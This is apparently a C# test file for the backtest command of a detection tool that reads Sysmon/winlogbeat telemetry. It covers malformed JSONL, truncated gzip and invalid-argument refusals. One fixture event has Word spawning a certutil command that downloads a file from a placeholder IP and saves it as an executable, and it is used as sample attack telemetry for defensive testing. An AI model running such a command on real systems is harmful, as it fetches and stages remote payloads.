using System.Text.Json;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests.Backtest;

/// <summary>What a history may look like, and what is refused.</summary>
public sealed class HistoryTests : IDisposable
{
    private static readonly byte[] ProcessEnded =
        """{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":"5","computer_name":"ws-0417"}}"""u8.ToArray();

    private readonly Scratch _folder = new();

    [Fact]
    public async Task Arrays_several_values_on_a_line_broken_lines_and_a_cut_end_are_each_counted_for_what_they_are()
    {
        var record = Telemetry.Record("services.exe", "svchost.exe", "svchost {[\\\"");
        byte[] text =
        [
            0xEF, 0xBB, 0xBF, .. Telemetry.Many(record, record), (byte)'\n', .. record, .. record, .. "\nrubbish\n{\"a\":\"never ended\n"u8,
            .. record, (byte)'\n', .. ProcessEnded, (byte)'\n', .. "{\"b\":1\n"u8, .. record, (byte)'\n', .. record[..^20],
        ];
        _folder.Write("events.jsonl", text);

        (await Terminal.RunAsync(_folder, "backtest", "events.jsonl", "--json", "report.json")).Succeeded();

        var sources = JsonDocument.Parse(_folder.Read("report.json")).RootElement.GetProperty("sources");
        Assert.Equal(7, sources.GetProperty("formats").GetProperty("winlogbeat").GetInt32());
        Assert.Equal(3, sources.GetProperty("dead_letters").EnumerateObject().Sum(r => r.Value.GetInt32()));
        Assert.Equal(1, sources.GetProperty("skipped").GetProperty("winlogbeat: event 5").GetInt32());
        Assert.Equal(1, sources.GetProperty("missing").GetProperty("winlogbeat").GetProperty("process.signature").GetDouble());
    }

    [Fact]
    public async Task What_stands_before_the_first_event_does_not_end_the_learning_time()
    {
        _folder.Write(
            "events.jsonl",
            [
                .. "rubbish\n"u8,
                .. Telemetry.Record("winword.exe", "certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.txt a.exe"),
            ]);

        (await Terminal.RunAsync(_folder, "backtest", "events.jsonl", "--json", "report.json")).Succeeded();

        var report = JsonDocument.Parse(_folder.Read("report.json")).RootElement;
        Assert.Equal(0, report.GetProperty("alerts").GetInt32());
        Assert.Equal(Some.Time.Year, report.GetProperty("history").GetProperty("from").GetDateTimeOffset().Year);
    }

    [Fact]
    public async Task A_file_that_was_cut_is_refused()
    {
        var lines = Enumerable.Range(0, 300)
            .SelectMany(i => Telemetry.Record("services.exe", $"tool{i * i}.exe").Append((byte)'\n'))
            .ToArray();
        var whole = Scratch.Gzip(lines);
        _folder.Write("cut.jsonl.gz", whole.AsSpan(0, whole.Length - 4));
        _folder.Write("plain.jsonl.gz", lines);

        (await Terminal.RunAsync(_folder, "backtest", "cut.jsonl.gz")).FailedWith("cut.jsonl.gz cannot be read", "ends too early");
        (await Terminal.RunAsync(_folder, "backtest", "plain.jsonl.gz"))
            .FailedWith("plain.jsonl.gz cannot be read", "its name ends in .gz");
    }

    [Fact]
    public async Task What_cannot_be_is_said_in_one_sentence()
    {
        _folder.Write("events.jsonl", Telemetry.Record("services.exe", "svchost.exe"));
        Directory.CreateDirectory(_folder["empty"]);

        await RefusesAsync(["backtest", "missing"], "missing does not exist");
        await RefusesAsync(["backtest", "empty"], "empty contains no file");
        await RefusesAsync(["backtest", "events.jsonl", "--budget", "20"], "'20' is not a budget", "20/day");
        await RefusesAsync(["backtest", "events.jsonl", "--budget-days", "7"], "pass it too", "--budget 20/day");
        await RefusesAsync(
            ["backtest", "events.jsonl", "--budget", "20/day", "--budget-days", "-1"], "--budget-days must be between 0 and 365");
        await RefusesAsync(["backtest", "events.jsonl", "--partitions", "0"], "--partitions must be between 1 and 32");
        await RefusesAsync(
            ["backtest", "events.jsonl", "--truth", "events.jsonl"], "events.jsonl, line 1", "not a line of a ground-truth file");
        await RefusesAsync(["backtest", "events.jsonl", "--alerts", "rows"], "--alerts must be incidents, findings or both, not 'rows'");
        await RefusesAsync(["backtest", "events.jsonl", "--alerts", "1"], "--alerts must be incidents, findings or both, not '1'");
        await RefusesAsync(
            ["backtest", "events.jsonl", "--incident-threshold", "0.04"], "--incident-threshold must be between 0.05 and 0.99, not '0.04'");
        await RefusesAsync(
            ["backtest", "events.jsonl", "--alerts", "findings", "--incident-threshold", "0.6"], "--alerts findings gathers none");
        await RefusesAsync(
            ["backtest", "events.jsonl", "--alerts", "both", "--budget", "20/day"], "pass --alerts incidents or --alerts findings");
        await RefusesAsync(["backtest", "compare", "events.jsonl", "events.jsonl"], "events.jsonl is not a backtest report");
    }

    public void Dispose() => _folder.Dispose();

    private async Task RefusesAsync(string[] arguments, params string[] parts) =>
        (await Terminal.RunAsync(_folder, arguments)).RefusedWith(parts);
}
